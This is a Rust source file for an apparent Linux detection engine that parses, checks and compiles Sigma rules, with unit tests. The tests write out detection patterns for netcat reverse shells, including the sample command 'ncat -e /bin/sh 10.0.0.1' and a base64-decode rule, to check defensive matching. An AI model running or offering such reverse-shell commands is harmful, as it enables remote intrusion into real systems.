//! A Sigma rule file: parsed, checked and compiled in one step. Whatever the engine cannot
//! evaluate is an error naming the file, the line where it can tell, and the problem.

use std::path::{Path, PathBuf};

use serde_norway::Value;

use crate::pattern::{FieldValue, Mode, Pattern};

use super::{
    condition::{self, Expr},
    fields::{Category, SigmaFields},
    index::LiteralIndex,
};

#[derive(Debug, thiserror::Error)]
pub enum RuleError {
    #[error("{}: cannot read: {reason}", file.display())]
    Read { file: PathBuf, reason: String },
    #[error("{}:{line}:{column}: invalid YAML: {message}", file.display())]
    Yaml {
        file: PathBuf,
        line: usize,
        column: usize,
        message: String,
    },
    #[error("{}{}: {reason}", file.display(), line.map(|l| format!(":{l}")).unwrap_or_default())]
    Invalid {
        file: PathBuf,
        line: Option<usize>,
        reason: String,
    },
    #[error("{}{}: skipped: {reason}", file.display(), line.map(|l| format!(":{l}")).unwrap_or_default())]
    Unsupported {
        file: PathBuf,
        line: Option<usize>,
        reason: String,
    },
}

/// Most bytes in one rule file: the largest SigmaHQ Linux rule is under 10 KB.
pub const MAX_RULE_BYTES: usize = 1 << 20;

/// Deepest nesting of YAML collections in a rule: real rules nest a handful of levels. The
/// YAML parser takes time quadratic in the depth, so deeper files are refused before it runs.
pub const MAX_YAML_DEPTH: usize = 64;

/// Refuses a rule file too large or nested too deep to parse in bounded time, before any
/// YAML parser sees it.
pub fn check_shape(text: &str, file: &Path) -> Result<(), RuleError> {
    let invalid = |line: Option<usize>, reason: String| RuleError::Invalid {
        file: file.to_owned(),
        line,
        reason,
    };
    if text.len() > MAX_RULE_BYTES {
        return Err(invalid(
            None,
            format!(
                "{} bytes: a rule file holds at most {MAX_RULE_BYTES}",
                text.len()
            ),
        ));
    }
    match yaml_depth(text) {
        (depth, line) if depth > MAX_YAML_DEPTH => Err(invalid(
            Some(line),
            format!("nested deeper than {MAX_YAML_DEPTH} levels"),
        )),
        _ => Ok(()),
    }
}

/// An upper bound of how deep a YAML text nests, and the first line where it is deepest: flow
/// brackets outside quotes, plus block levels (indentation steps and `- ` entries).
fn yaml_depth(text: &str) -> (usize, usize) {
    let mut indents: Vec<usize> = Vec::new();
    let mut flow = 0usize;
    let (mut deepest, mut at) = (0usize, 1usize);
    for (n, line) in text.lines().enumerate() {
        let body = line.trim_start_matches(' ');
        if body.is_empty() || body.starts_with('#') {
            continue;
        }
        let indent = line.len() - body.len();
        if flow == 0 {
            while indents.last().is_some_and(|&i| i > indent) {
                indents.pop();
            }
            if indents.last() != Some(&indent) {
                indents.push(indent);
            }
        }
        let dashes = body
            .split_inclusive(' ')
            .take_while(|w| w.trim_end() == "-")
            .count();
        let mut quote: Option<char> = None;
        for c in body.chars() {
            match (quote, c) {
                (Some(q), c) if c == q => quote = None,
                (Some(_), _) => {}
                (None, '\'' | '"') => quote = Some(c),
                (None, '#') => break,
                (None, '[' | '{') => {
                    flow += 1;
                    let d = indents.len() + dashes + flow;
                    if d > deepest {
                        (deepest, at) = (d, n + 1);
                    }
                }
                (None, ']' | '}') => flow = flow.saturating_sub(1),
                _ => {}
            }
        }
        let d = indents.len() + dashes + flow;
        if d > deepest {
            (deepest, at) = (d, n + 1);
        }
    }
    (deepest, at)
}

impl RuleError {
    /// A YAML syntax (or shape) error, with its place in the file.
    pub fn from_yaml(file: &Path, e: &serde_norway::Error) -> Self {
        let (line, column) = e.location().map_or((0, 0), |l| (l.line(), l.column()));
        Self::Yaml {
            file: file.to_owned(),
            line,
            column,
            message: e.to_string(),
        }
    }

    pub fn file(&self) -> &Path {
        match self {
            Self::Read { file, .. }
            | Self::Yaml { file, .. }
            | Self::Invalid { file, .. }
            | Self::Unsupported { file, .. } => file,
        }
    }
}

#[derive(
    Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, serde::Serialize, serde::Deserialize,
)]
#[serde(rename_all = "snake_case")]
pub enum Level {
    Informational,
    Low,
    Medium,
    High,
    Critical,
}

/// One field test of a selection.
#[derive(Clone, Debug)]
struct FieldMatch {
    /// Index in [`super::fields::FIELDS`].
    field: usize,
    patterns: Vec<Pattern>,
    /// `|all`: every value must match (otherwise any one).
    all: bool,
    /// `field: null`: the field must be absent or empty.
    null: bool,
}

impl FieldMatch {
    fn matches(&self, event: &Prepared<'_>) -> bool {
        let value = event.get(self.field);
        if self.null {
            return value.is_none_or(|v| v.raw.is_empty());
        }
        let Some(v) = value else { return false };
        let hits = event.hits(self.field);
        if self.all {
            self.patterns.iter().all(|p| p.matches_with(v, hits))
        } else {
            self.patterns.iter().any(|p| p.matches_with(v, hits))
        }
    }
}

/// An event's fields, each computed (and lower-cased) at most once however many rules and
/// patterns read it.
pub struct Prepared<'a> {
    event: &'a dyn SigmaFields,
    cache: [std::cell::OnceCell<Option<FieldValue>>; FIELD_COUNT],
    index: Option<&'a LiteralIndex>,
    hits: [std::cell::OnceCell<Option<Vec<u8>>>; FIELD_COUNT],
}

/// How many fields Sigma rules can name: the per-event caches are arrays, not allocations.
const FIELD_COUNT: usize = super::fields::FIELDS.len();

impl<'a> Prepared<'a> {
    pub fn new(event: &'a dyn SigmaFields) -> Self {
        Self {
            event,
            cache: std::array::from_fn(|_| std::cell::OnceCell::new()),
            index: None,
            hits: std::array::from_fn(|_| std::cell::OnceCell::new()),
        }
    }

    /// Prepared for rules indexed by `index` (see [`LiteralIndex::build`]).
    pub fn with_index(event: &'a dyn SigmaFields, index: &'a LiteralIndex) -> Self {
        Self {
            index: Some(index),
            ..Self::new(event)
        }
    }

    /// Which indexed literals of `field` the event's value holds, and where.
    fn hits(&self, field: usize) -> Option<&[u8]> {
        let index = self.index?;
        self.hits
            .get(field)?
            .get_or_init(|| index.hits(field, self.get(field)?.lower()))
            .as_deref()
    }

    pub fn category(&self) -> Option<Category> {
        self.event.category()
    }

    fn get(&self, field: usize) -> Option<&FieldValue> {
        self.cache
            .get(field)?
            .get_or_init(|| {
                let name = super::fields::FIELDS.get(field)?;
                self.event
                    .field(name)
                    .map(|c| FieldValue::new(c.into_owned()))
            })
            .as_ref()
    }
}

/// A selection: alternatives (a list of maps) of conjunctions (one map's fields).
#[derive(Clone, Debug)]
struct Selection {
    alternatives: Vec<Vec<FieldMatch>>,
}

/// A loaded rule.
#[derive(Clone, Debug)]
pub struct SigmaRule {
    pub id: Option<String>,
    pub title: String,
    pub author: Option<String>,
    pub description: Option<String>,
    pub level: Level,
    pub tags: Vec<String>,
    pub category: Category,
    pub file: PathBuf,
    selections: Vec<Selection>,
    condition: Expr,
    /// Indexed literals (field, pattern) of which one at least must occur for the rule to
    /// match; None when the condition has no such set (a `not`, a selection without an
    /// all-literal field). Set by [`LiteralIndex::build`].
    required: Option<Vec<(usize, u32)>>,
}

/// The first line of `text` holding `needle`, to point an error at.
fn line_of(text: &str, needle: &str) -> Option<usize> {
    text.lines().position(|l| l.contains(needle)).map(|i| i + 1)
}

fn scalar(v: &Value) -> Option<String> {
    match v {
        Value::String(s) => Some(s.clone()),
        Value::Number(n) => Some(n.to_string()),
        Value::Bool(b) => Some(b.to_string()),
        _ => None,
    }
}

fn text_field(doc: &Value, key: &str) -> Option<String> {
    doc.get(key).and_then(scalar)
}

impl SigmaRule {
    // Long by design: the Sigma fields in the order the specification lists them, each checked where it is read.
    pub fn parse(text: &str, file: &Path) -> Result<Self, RuleError> {
        check_shape(text, file)?;
        let doc: Value =
            serde_norway::from_str(text).map_err(|e| RuleError::from_yaml(file, &e))?;
        let invalid = |needle: &str, reason: String| RuleError::Invalid {
            file: file.to_owned(),
            line: line_of(text, needle),
            reason,
        };
        let unsupported = |needle: &str, reason: String| RuleError::Unsupported {
            file: file.to_owned(),
            line: line_of(text, needle),
            reason,
        };
        let title = text_field(&doc, "title")
            .ok_or_else(|| invalid("title", "the rule has no title".into()))?;
        let logsource = doc.get("logsource");
        let category = Category::from_logsource(
            logsource
                .and_then(|l| l.get("product"))
                .and_then(Value::as_str),
            logsource
                .and_then(|l| l.get("category"))
                .and_then(Value::as_str),
        )
        .map_err(|r| unsupported("logsource", r.to_string()))?;
        let level = match text_field(&doc, "level").as_deref() {
            Some("informational") => Level::Informational,
            Some("low") | None => Level::Low,
            Some("medium") => Level::Medium,
            Some("high") => Level::High,
            Some("critical") => Level::Critical,
            Some(other) => return Err(invalid("level", format!("unknown level {other:?}"))),
        };
        let detection = doc
            .get("detection")
            .and_then(Value::as_mapping)
            .ok_or_else(|| invalid("detection", "the rule has no detection map".into()))?;
        let mut names = Vec::new();
        let mut selections = Vec::new();
        let mut cond_text = None;
        for (k, v) in detection {
            let name = k
                .as_str()
                .ok_or_else(|| invalid("detection", "a detection key is not a string".into()))?;
            if name == "condition" {
                cond_text = Some(match v {
                    Value::String(s) => s.clone(),
                    Value::Sequence(list) if list.len() == 1 => {
                        list[0].as_str().map(str::to_owned).unwrap_or_default()
                    }
                    Value::Sequence(_) => {
                        return Err(unsupported(
                            "condition",
                            "several conditions in one rule are not supported".into(),
                        ));
                    }
                    _ => return Err(invalid("condition", "the condition is not a string".into())),
                });
                continue;
            }
            if name == "timeframe" {
                return Err(unsupported(
                    "timeframe",
                    "timeframes (correlations) are not supported".into(),
                ));
            }
            let sel = compile_selection(name, v, category).map_err(
                |(needle, reason, is_unsupported)| {
                    if is_unsupported {
                        unsupported(&needle, reason)
                    } else {
                        invalid(&needle, reason)
                    }
                },
            )?;
            names.push(name.to_owned());
            selections.push(sel);
        }
        let cond_text = cond_text
            .ok_or_else(|| invalid("detection", "the detection has no condition".into()))?;
        let condition = condition::parse(&cond_text, &names).map_err(|r| {
            if r.is_unsupported() {
                unsupported("condition", r.to_string())
            } else {
                invalid("condition", format!("condition {cond_text:?}: {r}"))
            }
        })?;
        let tags = doc
            .get("tags")
            .and_then(Value::as_sequence)
            .map(|t| t.iter().filter_map(scalar).collect())
            .unwrap_or_default();
        Ok(Self {
            id: text_field(&doc, "id"),
            title,
            author: text_field(&doc, "author"),
            description: text_field(&doc, "description"),
            level,
            tags,
            category,
            file: file.to_owned(),
            selections,
            condition,
            required: None,
        })
    }

    /// ATT&CK technique ids from the tags (`attack.t1059.004` -> `T1059.004`).
    pub fn techniques(&self) -> Vec<String> {
        self.tags
            .iter()
            .filter_map(|t| t.strip_prefix("attack.t"))
            .map(|t| format!("T{}", t.to_uppercase()))
            .collect()
    }

    /// Every literal pattern of the rule, with the field it tests.
    pub(super) fn literals_mut(&mut self) -> impl Iterator<Item = (usize, &str, &mut Option<u32>)> {
        self.selections
            .iter_mut()
            .flat_map(|s| s.alternatives.iter_mut().flatten())
            .flat_map(|fm| {
                let field = fm.field;
                fm.patterns
                    .iter_mut()
                    .filter_map(move |p| p.literal_mut().map(|(t, i)| (field, t, i)))
            })
    }

    /// Works out [`SigmaRule::required`] once the literals are indexed.
    pub(super) fn settle_required(&mut self) {
        self.required = self.expr_required(&self.condition);
    }

    fn sel_required(&self, i: usize) -> Option<Vec<(usize, u32)>> {
        let mut out = Vec::new();
        for alt in &self.selections.get(i)?.alternatives {
            // The alternative's field whose literals are fewest, all of them indexed.
            let best = alt
                .iter()
                .filter(|fm| !fm.null && !fm.patterns.is_empty())
                .filter_map(|fm| {
                    fm.patterns
                        .iter()
                        .map(|p| p.indexed().map(|id| (fm.field, id)))
                        .collect::<Option<Vec<_>>>()
                })
                .min_by_key(Vec::len)?;
            out.extend(best);
        }
        Some(out)
    }

    fn expr_required(&self, e: &Expr) -> Option<Vec<(usize, u32)>> {
        let union = |parts: Vec<Option<Vec<(usize, u32)>>>| {
            parts
                .into_iter()
                .collect::<Option<Vec<_>>>()
                .map(|v| v.concat())
        };
        let smallest = |parts: Vec<Option<Vec<(usize, u32)>>>| {
            parts.into_iter().flatten().min_by_key(Vec::len)
        };
        match e {
            Expr::Sel(i) => self.sel_required(*i),
            Expr::AnyOf(ix) => union(ix.iter().map(|&i| self.sel_required(i)).collect()),
            Expr::AllOf(ix) => smallest(ix.iter().map(|&i| self.sel_required(i)).collect()),
            Expr::Not(_) => None,
            Expr::And(es) => smallest(es.iter().map(|e| self.expr_required(e)).collect()),
            Expr::Or(es) => union(es.iter().map(|e| self.expr_required(e)).collect()),
        }
    }

    /// Whether `event` matches. Events of another category never do.
    pub fn matches(&self, event: &dyn SigmaFields) -> bool {
        self.matches_prepared(&Prepared::new(event))
    }

    /// Whether a prepared event matches: use one [`Prepared`] for every rule.
    pub fn matches_prepared(&self, event: &Prepared<'_>) -> bool {
        if event.category() != Some(self.category) {
            return false;
        }
        // None of the literals it needs occurs: it cannot match.
        if event.index.is_some()
            && let Some(required) = &self.required
            && !required.iter().any(|&(field, id)| {
                event
                    .hits(field)
                    .and_then(|h| h.get(id as usize))
                    .is_some_and(|&f| f != 0)
            })
        {
            return false;
        }
        self.condition.eval(&|i| {
            self.selections.get(i).is_some_and(|s| {
                s.alternatives
                    .iter()
                    .any(|alt| alt.iter().all(|fm| fm.matches(event)))
            })
        })
    }
}

/// (where to point, the problem, whether it is "unsupported" rather than "invalid").
type SelError = (String, String, bool);

fn compile_selection(name: &str, v: &Value, category: Category) -> Result<Selection, SelError> {
    let maps: Vec<&serde_norway::Mapping> = match v {
        Value::Mapping(m) => vec![m],
        Value::Sequence(items) if items.iter().all(Value::is_mapping) => {
            items.iter().filter_map(Value::as_mapping).collect()
        }
        Value::Sequence(_) => {
            return Err((
                name.to_owned(),
                format!(
                    "selection {name:?} is a keyword list (full-text search), which is not supported"
                ),
                true,
            ));
        }
        _ => {
            return Err((
                name.to_owned(),
                format!("selection {name:?} is neither a map nor a list of maps"),
                false,
            ));
        }
    };
    let mut alternatives = Vec::new();
    for m in maps {
        let mut conj = Vec::new();
        for (k, val) in m {
            let key = k.as_str().ok_or_else(|| {
                (
                    name.to_owned(),
                    format!("a key of selection {name:?} is not a string"),
                    false,
                )
            })?;
            conj.push(compile_field(key, val, category)?);
        }
        alternatives.push(conj);
    }
    Ok(Selection { alternatives })
}

fn compile_field(key: &str, val: &Value, category: Category) -> Result<FieldMatch, SelError> {
    let mut parts = key.split('|');
    let name = parts.next().unwrap_or_default();
    let field = super::fields::field_index(name).filter(|_| category.has_field(name));
    let Some(field) = field else {
        return Err((
            key.to_owned(),
            format!("field {name:?} is not available for {category:?} events"),
            true,
        ));
    };
    let (mut mode, mut all, mut re_flags) = (Mode::Exact, false, String::new());
    for m in parts {
        match m {
            "contains" => mode = Mode::Contains,
            "startswith" => mode = Mode::StartsWith,
            "endswith" => mode = Mode::EndsWith,
            "all" => all = true,
            "re" => mode = Mode::Regex,
            "i" | "m" | "s" if mode == Mode::Regex => re_flags.push_str(m),
            "cidr" => mode = Mode::Cidr,
            other => {
                return Err((
                    key.to_owned(),
                    format!("modifier {other:?} is not supported"),
                    true,
                ));
            }
        }
    }
    let values: Vec<&Value> = match val {
        Value::Sequence(list) => list.iter().collect(),
        v => vec![v],
    };
    if values.len() == 1 && values[0].is_null() {
        return Ok(FieldMatch {
            field,
            patterns: Vec::new(),
            all: false,
            null: true,
        });
    }
    let mut patterns = Vec::new();
    for v in values {
        let s = scalar(v).ok_or_else(|| {
            (
                key.to_owned(),
                format!("a value of {key:?} is not a scalar"),
                false,
            )
        })?;
        let s = if re_flags.is_empty() {
            s
        } else {
            format!("(?{re_flags}){s}")
        };
        patterns
            .push(Pattern::compile(&s, mode).map_err(|e| (key.to_owned(), e.to_string(), false))?);
    }
    Ok(FieldMatch {
        field,
        patterns,
        all,
        null: false,
    })
}

#[cfg(test)]
mod tests {
    use std::{borrow::Cow, collections::HashMap};

    use super::*;

    #[test]
    fn deep_or_huge_yaml_is_refused_quickly_before_the_parser_runs() {
        let file = Path::new("deep.yml");
        let flow = format!(
            "id: x\nmatch:\n  where: {}{}\n",
            "[".repeat(100_000),
            "]".repeat(100_000)
        );
        let block: String = (0..500).fold("id: y\nmatch:\n".to_owned(), |mut s, i| {
            s.push_str(&" ".repeat(2 * (i + 1)));
            s.push_str("a:\n");
            s
        });
        let dashes = format!("{}x\n", "- ".repeat(10_000));
        for text in [&flow, &block, &dashes] {
            let started = std::time::Instant::now();
            let err = check_shape(text, file).expect_err("refused");
            assert!(err.to_string().contains("nested deeper"), "{err}");
            assert!(started.elapsed() < std::time::Duration::from_secs(1));
        }
        let huge = "x".repeat(MAX_RULE_BYTES + 1);
        assert!(check_shape(&huge, file).is_err());
        // Every shipped rule passes, with room to spare.
        let shipped = Path::new(env!("CARGO_MANIFEST_DIR")).join("../deploy/rules");
        for e in std::fs::read_dir(&shipped).expect("deploy/rules").flatten() {
            let text = std::fs::read_to_string(e.path()).expect("read");
            let (depth, _) = yaml_depth(&text);
            assert!(
                depth <= MAX_YAML_DEPTH / 4,
                "{}: {depth}",
                e.path().display()
            );
        }
    }

    struct Ev(Category, HashMap<&'static str, &'static str>);
    impl SigmaFields for Ev {
        fn category(&self) -> Option<Category> {
            Some(self.0)
        }
        fn field(&self, name: &str) -> Option<Cow<'_, str>> {
            self.1.get(name).map(|v| Cow::Borrowed(*v))
        }
    }

    fn exec(pairs: &[(&'static str, &'static str)]) -> Ev {
        Ev(Category::ProcessCreation, pairs.iter().copied().collect())
    }

    fn rule(body: &str) -> SigmaRule {
        let text = format!(
            "title: t\nid: x-1\nauthor: A\nlevel: high\ntags:\n  - attack.t1059.004\nlogsource:\n  product: linux\n  category: process_creation\n{body}"
        );
        SigmaRule::parse(&text, Path::new("t.yml")).expect("loads")
    }

    #[test]
    fn indexed_literals_decide_exactly_as_string_searches() {
        // Every SigmaHQ rule, against events built from their own values and near misses.
        // The project's own fixtures always; the public SigmaHQ corpus too when
        // VIGIL_SIGMA_DIR names it.
        let fixtures = concat!(env!("CARGO_MANIFEST_DIR"), "/../tests/fixtures/sigma");
        let mut rules = crate::detect::rules::load_dir(Path::new(fixtures))
            .expect("the Sigma fixtures load")
            .sigma;
        assert!(rules.len() >= 8, "{} fixture rules", rules.len());
        match std::env::var_os("VIGIL_SIGMA_DIR") {
            Some(corpus) => rules.extend(
                crate::detect::rules::load_dir(Path::new(&corpus))
                    .expect("VIGIL_SIGMA_DIR loads")
                    .sigma,
            ),
            None => eprintln!("SKIPPED the SigmaHQ corpus: VIGIL_SIGMA_DIR is not set"),
        }
        rules.push(rule(
            "detection:\n  a:\n    CommandLine|contains|all: [abc, bcd]\n    Image|endswith: /x\n  b:\n    Image: /usr/bin/X\n    CommandLine|startswith: ab\n  condition: a or b",
        ));
        let plain = rules.clone();
        let index = super::LiteralIndex::build(rules.iter_mut());
        let values: Vec<String> = plain
            .iter()
            .flat_map(|r| {
                r.selections
                    .iter()
                    .flat_map(|s| s.alternatives.iter().flatten())
                    .flat_map(|fm| fm.patterns.iter())
                    .filter_map(|p| p.clone().literal_mut().map(|(t, _)| t.to_owned()))
                    .collect::<Vec<_>>()
            })
            .chain(["", "abcd", "xabcdx", "/usr/bin/x", "/USR/BIN/X", "ab"].map(String::from))
            .collect();
        let (mut checked, mut matched) = (0, 0);
        for (n, v) in values.iter().enumerate() {
            let v: &'static str = Box::leak(v.clone().into_boxed_str());
            let around: &'static str = Box::leak(format!("/tmp/{v} -x").into_boxed_str());
            for value in [v, around] {
                for cat in [
                    Category::ProcessCreation,
                    Category::FileEvent,
                    Category::NetworkConnection,
                ] {
                    let ev = Ev(
                        cat,
                        super::super::fields::FIELDS
                            .iter()
                            .enumerate()
                            .filter(|(i, _)| (i + n) % 3 != 0)
                            .map(|(_, f)| (*f, value))
                            .collect(),
                    );
                    let prepared = Prepared::with_index(&ev, &index);
                    for (a, b) in plain.iter().zip(&rules) {
                        let m = a.matches(&ev);
                        assert_eq!(
                            m,
                            b.matches_prepared(&prepared),
                            "rule {:?} on {value:?}",
                            a.title
                        );
                        checked += 1;
                        matched += usize::from(m);
                    }
                }
            }
        }
        // The fixtures alone match a handful of the values; the SigmaHQ corpus many more.
        assert!(
            checked > 1000 && matched >= 4,
            "{checked} checked, {matched} matched"
        );
    }

    #[test]
    fn a_real_rule_matches_what_it_describes_and_not_a_near_miss() {
        let path = concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/../tests/fixtures/sigma/process_creation/base64_decode.yml"
        );
        let text = std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{path}: {e}"));
        let r = SigmaRule::parse(&text, Path::new("base64.yml")).expect("loads");
        assert_eq!(r.author.as_deref(), Some("Vigil tests"));
        assert!(r.matches(&exec(&[
            ("Image", "/usr/bin/base64"),
            ("CommandLine", "base64 -d payload")
        ])));
        assert!(!r.matches(&exec(&[
            ("Image", "/usr/bin/base64"),
            ("CommandLine", "base64 payload")
        ])));
        assert!(!r.matches(&Ev(
            Category::FileEvent,
            HashMap::from([("Image", "/usr/bin/base64"), ("CommandLine", "-d")])
        )));
    }

    #[test]
    fn lists_all_null_and_filters() {
        let r = rule(
            "detection:\n  sel_a:\n    CommandLine|contains|all: ['-e', '/bin/sh']\n  sel_b:\n    - Image|endswith: /nc\n    - Image|endswith: /ncat\n  filter_main:\n    ParentImage: null\n  condition: all of sel_* and not 1 of filter_*\n",
        );
        assert_eq!(r.techniques(), ["T1059.004"]);
        assert_eq!(r.level, Level::High);
        let hit = exec(&[
            ("Image", "/usr/bin/ncat"),
            ("CommandLine", "ncat -e /bin/sh 10.0.0.1"),
            ("ParentImage", "/bin/bash"),
        ]);
        assert!(r.matches(&hit));
        let only_one_of_all = exec(&[
            ("Image", "/usr/bin/nc"),
            ("CommandLine", "nc -e x"),
            ("ParentImage", "/bin/bash"),
        ]);
        assert!(!r.matches(&only_one_of_all));
        let filtered = exec(&[("Image", "/usr/bin/nc"), ("CommandLine", "nc -e /bin/sh")]);
        assert!(
            !r.matches(&filtered),
            "no parent: the null filter excludes it"
        );
    }
}
